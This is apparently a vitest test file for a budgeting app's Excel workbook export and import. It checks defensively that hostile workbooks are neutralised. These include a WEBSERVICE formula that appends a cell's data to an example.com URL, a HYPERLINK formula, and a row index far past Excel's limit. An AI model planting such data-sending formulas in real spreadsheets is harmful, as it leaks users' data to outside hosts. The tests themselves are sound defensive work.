import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { evaluatePlan } from '@shared/budget/evaluated-plan.ts';
import type { Plan } from '@shared/model/plan-schema.ts';
import { exportPlanWorkbook } from '@shared/xlsx/write-workbook.ts';
import { embeddedPlanText } from '@shared/xlsx/embedded-plan.ts';
import { importPlanWorkbook } from '@shared/xlsx/read-workbook.ts';
import { rowProblemMessage } from '@shared/xlsx/row-problem.ts';
import { samplePlan, validSampleName } from '../../helpers/samples.ts';
import { generatedPlan } from '../../helpers/generated-plans.ts';

const sample = () => evaluatePlan(samplePlan(validSampleName)).plan;
const options = (openPlan: Plan | null) => ({ openPlan, language: 'en' as const, newPlanId: () => 'new' });

async function load(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

async function roundTrip(plan: Plan) {
  const result = await importPlanWorkbook(await exportPlanWorkbook(plan, { language: 'he' }), options(null));
  if (!result.ok) throw new Error(JSON.stringify(result.failure));
  return result;
}

describe('a workbook carries only what Tamhil computes', () => {
  it('writes a formula Tamhil does not compute (from a plan file made elsewhere) as its value, never as a formula', async () => {
    const plan = structuredClone(sample());
    plan.services[0]!.formulas.push({ field: 'perYear', formula: '=WEBSERVICE("https://example.com/?d="&{.:name})' });
    plan.services[1]!.formulas.push({ field: 'staffHours', formula: '=HYPERLINK("https://example.com","x")' });
    const services = (await load(await exportPlanWorkbook(plan, { language: 'he' }))).getWorksheet('שירותים ותקציב')!;
    for (const address of ['F2', 'M3']) {
      expect(services.getCell(address).formula).toBeUndefined();
      expect(JSON.stringify(services.getCell(address).value)).not.toMatch(/WEBSERVICE|HYPERLINK/);
    }
  });

  it('does not take in a formula Tamhil cannot compute, and says why', async () => {
    const plan = sample();
    const workbook = await load(await exportPlanWorkbook(plan, { language: 'he' }));
    const services = workbook.getWorksheet('שירותים ותקציב')!;
    services.getCell('D2').value = { formula: 'WEBSERVICE("https://example.com")' } as ExcelJS.CellFormulaValue;
    services.getCell('D3').value = { formula: "'פרטי התכנית'!B5/1000" } as ExcelJS.CellFormulaValue;
    services.getCell('D4').value = { formula: 'IF(G4>0,"ok!",0)' } as ExcelJS.CellFormulaValue;
    const result = await importPlanWorkbook(new Uint8Array(await workbook.xlsx.writeBuffer()), options(plan));
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.problems.map((problem) => rowProblemMessage(problem, 'en').replace(/[\u2066-\u2069]/g, ''))).toEqual([
      'Sheet "שירותים ותקציב", row 2, column "משתתפים": the formula =WEBSERVICE("https://example.com") was not read: it uses a function Tamhil does not compute. The previous value was kept.',
      'Sheet "שירותים ותקציב", row 3, column "משתתפים": the formula =\'פרטי התכנית\'!B5/1000 was not read: it refers to another sheet or workbook. The previous value was kept.',
    ]);
    expect(result.plan.services[0]!.formulas).toEqual(plan.services[0]!.formulas);
    // A text with "!" inside quotes is no reference to another sheet.
    expect(result.plan.services[2]!.formulas).toContainEqual({ field: 'participants', formula: '=IF({.:unitCost}>0,"ok!",0)' });
  });
});

describe('hostile and awkward workbooks', () => {
  it('refuses a cell past Excel\'s last row before anything walks the rows', async () => {
    const zip = await JSZip.loadAsync(await exportPlanWorkbook(sample(), { language: 'he' }));
    const part = Object.keys(zip.files).find((name) => /xl\/worksheets\/sheet3\.xml$/.test(name))!;
    const xml = await zip.file(part)!.async('string');
    zip.file(part, xml.replace('</sheetData>', '<row r="50000000"><c r="A50000000"><v>1</v></c></row></sheetData>'));
    const result = await importPlanWorkbook(await zip.generateAsync({ type: 'uint8array' }), options(null));
    expect(result).toMatchObject({ ok: false, failure: { code: 'damaged' } });
  });

  it('reads a sheet with one cell on its very last row without walking the rows between', async () => {
    const plan = sample();
    const workbook = await load(await exportPlanWorkbook(plan, { language: 'he' }));
    workbook.getWorksheet('צרכים')!.getCell('H1048576').value = 'הערה בסוף הגיליון';
    workbook.getWorksheet('שירותים ותקציב')!.getCell('Z1048576').value = 'גם כאן';
    const result = await importPlanWorkbook(new Uint8Array(await workbook.xlsx.writeBuffer()), options(plan));
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.plan).toEqual(plan);
  });

  it('gives back texts a cell cannot hold as such: control characters, CR LF, Excel-like escapes, an emoji at a chunk edge', async () => {
    const plan = structuredClone(generatedPlan(21, 6));
    plan.services[0]!.name = 'a\u000Bb';
    plan.services[0]!.notes = 'bell\u0007, CR LF\r\nand _x0041_ literal';
    plan.services[1]!.custom = [{ columnId: 'notes2', value: '' }];
    plan.services[2]!.description = '  רווחים  ';
    plan.population.bands[0]!.label = ' 55-64 ';
    // The plan file is hidden in chunks of 32,000 characters: pad so that the emoji straddles one's end.
    plan.services[5]!.description = '😀 הערה';
    for (const service of plan.services.slice(0, 5)) service.description = '';
    const emojiAt = embeddedPlanText(plan).indexOf('😀');
    let padding = (32_000 - 1 - emojiAt + 32_000 * 4) % 32_000;
    for (const service of plan.services.slice(0, 5)) {
      service.description = 'א'.repeat(Math.min(padding, 20_000));
      padding -= service.description.length;
    }
    expect(embeddedPlanText(plan).indexOf('😀') % 32_000).toBe(31_999);
    // Indicator ids are unique within their outcome only.
    plan.outcomes[1]!.indicators = plan.outcomes[0]!.indicators.map((indicator) => ({ ...indicator, name: `${indicator.name} ב` }));
    const evaluated = evaluatePlan(plan).plan;
    const result = await roundTrip(evaluated);
    expect(result.problems).toEqual([]);
    expect(result.plan).toEqual(evaluated);
  });

  it('keeps a population figure it cannot read, and finds the columns by their headers', async () => {
    const plan = sample();
    const workbook = await load(await exportPlanWorkbook(plan, { language: 'he' }));
    const population = workbook.getWorksheet('אוכלוסייה')!;
    population.spliceColumns(2, 0, ['הערה', 'שורה א', 'שורה ב', 'שורה ג']);
    population.getCell('D2').value = 'חמישים וחמש';
    const result = await importPlanWorkbook(new Uint8Array(await workbook.xlsx.writeBuffer()), options(plan));
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expect(result.plan.population).toEqual(plan.population);
    expect(result.problems.map((problem) => [problem.row, problem.column, problem.outcome])).toEqual([[2, 'מגיל', 'kept-previous']]);
  });
});
